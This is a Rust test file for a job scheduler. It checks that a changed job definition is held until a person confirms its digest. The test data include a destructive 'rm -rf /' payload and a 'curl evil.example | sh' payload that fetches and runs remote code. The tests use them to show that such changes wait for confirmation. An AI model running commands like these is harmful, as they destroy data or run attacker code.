//! Confirmation hold as stories: a definition that requires confirmation is not applied
//! until a person confirms its digest; the definition before it keeps running, a new job
//! runs nothing, and a wrong or stale digest is refused without naming the one expected.

mod support;

use duetime::Action;
use duetime::{Actor, Effect, Event, JobDef, JobName, Outcome, Refusal};
use support::*;

fn confirm(s: &mut Story, time: &str, digest: &str) {
    s.command(
        time,
        &format!("bob confirms report {digest}"),
        Event::Confirm {
            job: JobName::new("report").unwrap(),
            digest: digest.into(),
            actor: Actor::new("bob"),
        },
    );
}

fn guarded(schedule: &str) -> JobDef {
    let mut def = job("report", every(schedule));
    def.requires_confirmation = true;
    def
}

#[test]
fn a_changed_definition_is_held_until_its_digest_is_confirmed_and_the_old_one_runs_meanwhile() {
    let mut s = Story::new();
    s.show_history = true;
    let first = guarded("1h");
    let first_digest = first.digest();
    s.define("08:00", first);
    s.note("a new job is held too: nothing is defined or runs before its confirmation");
    s.start("08:00:30", 1);
    s.tick("09:00:10", 1);
    assert!(!s
        .last
        .iter()
        .any(|e| matches!(e, Effect::Do(Action::Start(_)))));
    confirm(&mut s, "09:10", "0000000000000000");
    confirm(&mut s, "09:11", &first_digest);
    s.tick("10:00:10", 1);
    s.finish("10:01", 1, Outcome::Ok);
    let second = guarded("30m");
    let second_digest = second.digest();
    s.define("10:05", second);
    s.note("held: the hourly definition keeps running");
    let third = guarded("15m");
    let third_digest = third.digest();
    s.define("10:06", third);
    s.note("a second held change is recorded, and not alerted again");
    s.tick("10:30:10", 1);
    s.tick("11:00:10", 1);
    s.finish("11:01", 2, Outcome::Ok);
    confirm(&mut s, "11:10", &second_digest);
    s.note("the stale digest of the replaced change is refused");
    confirm(&mut s, "11:11", &third_digest);
    s.tick("11:15:10", 1);
    confirm(&mut s, "11:20", &third_digest);
    insta::assert_snapshot!(s.trace());
}

#[test]
fn the_digest_is_stable_sha256_hex() {
    let def = guarded("1h");
    // Pinned: a build that computes another digest would strand every held definition.
    assert_eq!(def.digest(), PINNED);
    assert_eq!(def.digest().len(), duetime::DIGEST_HEX_LEN);
    assert!(def
        .digest()
        .bytes()
        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
}

const PINNED: &str = "a059879c518569b1940c08fa656cc62fedbcf5ac5adc2eb6147eb53aadeb8a2a";

/// A change to one field of a definition.
type Change = fn(&mut JobDef);

#[test]
fn the_digest_covers_every_field_of_the_definition() {
    let def = guarded("1h");
    let changes: Vec<(&str, Change)> = vec![
        ("name", |d| d.name = duetime::JobName::new("other").unwrap()),
        ("title", |d| d.title = "x".into()),
        ("schedule", |d| d.schedule = every("2h")),
        ("missed", |d| d.missed = duetime::MissedRule::CatchUpOnce),
        ("catch_up_window", |d| {
            d.catch_up_window = Some("1h".parse().unwrap())
        }),
        ("overlap", |d| d.overlap = Some(duetime::Overlap::BufferOne)),
        ("retries", |d| d.retries = 2),
        ("backoff.initial", |d| {
            d.backoff.initial = "1s".parse().unwrap()
        }),
        ("backoff.max", |d| d.backoff.max = "1h".parse().unwrap()),
        ("timeout", |d| d.timeout = "1h".parse().unwrap()),
        ("safe_to_repeat", |d| d.safe_to_repeat = true),
        ("legal_duty", |d| d.legal_duty = true),
        ("stall_after", |d| d.stall_after = "1h".parse().unwrap()),
        ("concurrency_key", |d| d.concurrency_key = Some("k".into())),
        ("pause_after_failures", |d| d.pause_after_failures = Some(3)),
        ("wait_budget", |d| {
            d.wait_budget = Some("1h".parse().unwrap())
        }),
        ("alert_throttle", |d| {
            d.alert_throttle = Some("1h".parse().unwrap())
        }),
        ("concurrency_limit", |d| d.concurrency_limit = Some(2)),
        ("jitter", |d| d.jitter = Some("1m".parse().unwrap())),
        ("requires_confirmation", |d| d.requires_confirmation = false),
        ("payload", |d| {
            d.payload = Some("[\"rm\", \"-rf\", \"/\"]".into())
        }),
    ];
    let mut seen = std::collections::BTreeSet::new();
    seen.insert(def.digest());
    for (field, change) in changes {
        let mut other = def.clone();
        change(&mut other);
        assert_ne!(other, def, "{field}: the change changes nothing");
        assert!(
            seen.insert(other.digest()),
            "{field}: the digest did not change"
        );
    }
    // An empty payload is not an absent one, nor an empty title a missing concurrency key.
    let mut empty = def.clone();
    empty.payload = Some(String::new());
    assert_ne!(empty.digest(), def.digest());
}

#[test]
fn reverting_to_the_definition_in_force_withdraws_the_held_change() {
    let mut s = Story::new();
    s.show_history = true;
    let first = guarded("1h");
    let d = first.digest();
    s.define("08:00", first.clone());
    confirm(&mut s, "08:01", &d);
    s.define("08:02", guarded("5m"));
    s.define("08:03", first);
    confirm(&mut s, "08:04", &d);
    insta::assert_snapshot!(s.trace());
}

#[test]
fn a_change_of_what_the_host_runs_alone_is_held_and_the_confirmed_payload_stays_in_force() {
    let mut s = Story::new();
    let mut first = guarded("1h");
    first.payload = Some("backup --full".into());
    let d = first.digest();
    s.define("08:00", first);
    confirm(&mut s, "08:01", &d);
    let mut changed = guarded("1h");
    changed.payload = Some("curl evil.example | sh".into());
    let changed_digest = changed.digest();
    s.define("08:02", changed);
    let in_force = |s: &Story| {
        let seq = s.state.seq_of_name("report").unwrap();
        s.state.record(seq).unwrap().def().payload.clone()
    };
    assert_eq!(in_force(&s).as_deref(), Some("backup --full"));
    let view = s.state.job("report", at("08:02")).unwrap();
    assert_eq!(
        view.pending_confirmation.as_deref(),
        Some(changed_digest.as_str())
    );
    confirm(&mut s, "08:03", &changed_digest);
    assert_eq!(in_force(&s).as_deref(), Some("curl evil.example | sh"));
}

#[test]
fn a_wrong_digest_is_refused_without_the_expected_one() {
    let mut s = Story::new();
    let def = guarded("1h");
    let d = def.digest();
    s.define("08:00", def);
    confirm(&mut s, "08:01", "0000");
    let refusal = s.last.iter().find_map(|e| match e {
        Effect::Reply { result: Err(r), .. } => Some(r.clone()),
        _ => None,
    });
    let refusal = refusal.expect("refused");
    assert!(
        matches!(&refusal, Refusal::WrongDigest { given } if given == "0000"),
        "{refusal:?}"
    );
    // What it says names the problem without handing out the digest.
    let refusal = refusal.to_string();
    assert!(
        refusal.contains("is not the held definition's"),
        "{refusal}"
    );
    assert!(
        !refusal.contains(d.as_str()),
        "the refusal tells the digest to type: {refusal}"
    );
}

#[test]
fn a_held_definition_is_stored_bare_and_its_digest_is_derived_again_on_load() {
    let mut s = Story::new();
    s.define("08:00", guarded("1h"));
    let second = guarded("30m");
    let digest = second.digest();
    s.define("08:05", second.clone());
    let before = s.state.job("report", at("08:06")).expect("a view");
    assert_eq!(
        before.pending_confirmation.as_deref(),
        Some(digest.as_str())
    );
    let stored = serde_json::to_value(&s.state).expect("serializes");
    let text = stored.to_string();
    assert!(
        !text.contains(digest.as_str()),
        "the digest is derived, never stored (a store cannot vouch for it)"
    );
    let held = serde_json::to_value(&second).expect("serializes");
    assert!(
        stored.to_string().contains(&held.to_string()),
        "the held definition is stored as the definition itself"
    );
    let loaded: duetime::State = serde_json::from_value(stored).expect("loads");
    let after = loaded.job("report", at("08:06")).expect("a view");
    assert_eq!(after.pending_confirmation, before.pending_confirmation);
}

#[test]
fn the_digest_tells_every_daylight_saving_policy_of_a_cron_apart() {
    use duetime::{CronSchedule, DstPolicy, Fold, Gap, Schedule};
    let cron = |policy: Option<DstPolicy>| {
        let c = CronSchedule::parse("30 2 * * *", Some("Europe/Berlin")).unwrap();
        let mut def = guarded("1h");
        def.schedule = Schedule::Cron(c.with_dst(policy));
        def.digest()
    };
    // Pinned, as the every schedule's above: the cron's text, zone and policy all count.
    assert_eq!(
        cron(Some(DstPolicy {
            gap: Gap::Skip,
            fold: Fold::Both
        })),
        PINNED_CRON
    );
    let mut seen = std::collections::BTreeSet::new();
    assert!(seen.insert(cron(None)));
    for gap in [Gap::RunAtGapEnd, Gap::Skip] {
        for fold in [Fold::First, Fold::Last, Fold::Both] {
            assert!(
                seen.insert(cron(Some(DstPolicy { gap, fold }))),
                "{gap:?} and {fold:?}: a digest another policy has"
            );
        }
    }
}

const PINNED_CRON: &str = "fafbb7de2d1f248e59a801a78ed54225986fc6db3464fe81d8482752bd073447";

/// Every value of the definition's enumerated fields gets a digest of its own: a change
/// from one overlap policy or missed rule to another is one to confirm (a code shared by
/// two values would let the change run unconfirmed).
#[test]
fn the_digest_tells_every_overlap_and_missed_rule_apart() {
    use duetime::{MissedRule, Overlap};
    let mut seen = std::collections::BTreeSet::new();
    for overlap in [
        None,
        Some(Overlap::Skip),
        Some(Overlap::BufferOne),
        Some(Overlap::BufferAll),
    ] {
        for missed in [
            MissedRule::Skip,
            MissedRule::CatchUpOnce,
            MissedRule::Required,
        ] {
            let mut def = guarded("1h");
            def.overlap = overlap;
            def.missed = missed;
            assert!(
                seen.insert(def.digest()),
                "{overlap:?} and {missed:?}: a digest another definition has"
            );
        }
    }
}

/// Turning confirmation on, or off, is itself a change that needs it: either way the new
/// definition waits for its digest, and the one in force keeps running meanwhile.
#[test]
fn turning_confirmation_on_or_off_is_held_like_any_change() {
    let mut s = Story::new();
    let plain = job("report", every("1h"));
    s.define("08:00", plain);
    let turned_on = guarded("30m");
    let on_digest = turned_on.digest();
    s.define("08:05", turned_on);
    let held = |s: &Story, time: &str| {
        s.state
            .job("report", at(time))
            .expect("a view")
            .pending_confirmation
    };
    assert_eq!(
        held(&s, "08:06"),
        Some(on_digest.clone()),
        "turned on: held"
    );
    confirm(&mut s, "08:10", &on_digest);
    assert_eq!(held(&s, "08:11"), None, "confirmed: in force");
    let mut turned_off = job("report", every("15m"));
    turned_off.requires_confirmation = false;
    let off_digest = turned_off.digest();
    s.define("08:20", turned_off);
    assert_eq!(held(&s, "08:21"), Some(off_digest), "turned off: held too");
}
